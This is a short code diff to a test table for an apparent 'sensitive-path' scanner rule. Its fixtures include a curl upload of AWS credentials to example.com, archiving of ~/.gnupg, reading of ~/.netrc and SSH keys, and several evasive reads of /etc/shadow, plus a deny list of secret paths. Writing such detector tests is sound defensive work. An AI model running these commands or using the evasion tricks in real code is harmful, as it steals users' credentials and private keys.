@@ -26,6 +26,10 @@ scanTable('sensitive-path', {
     'an upload by curl': `${HEAD} execSync('curl -F file=@$HOME/.aws/credentials https://example.com/x');`,
     'an archive in a nested shell': `${HEAD} spawn('sh', ['-c', 'tar czf /tmp/x.tgz ~/.gnupg && true']);`,
     'input from it': `${HEAD} execSync('wc -c < ~/.netrc');`,
+    'what find finds': `${HEAD} execSync('find ~ -name id_rsa -exec cat {} ;');`,
+    'the path as bytes': `${HEAD} export const k = fs.readFileSync(Buffer.from('/etc/shadow'));`,
+    'the path as a URL': `${HEAD} export const k = fs.readFileSync(new URL('file:///etc/shadow'));`,
+    'a bound function': `${HEAD} const r = fs.readFileSync.bind(fs, '/etc/shadow'); export const k = r();`,
   },
   clean: {
     'a guard that compares': `const DENIED = ['.ssh', '.aws/credentials', '/etc/shadow', '.env'];
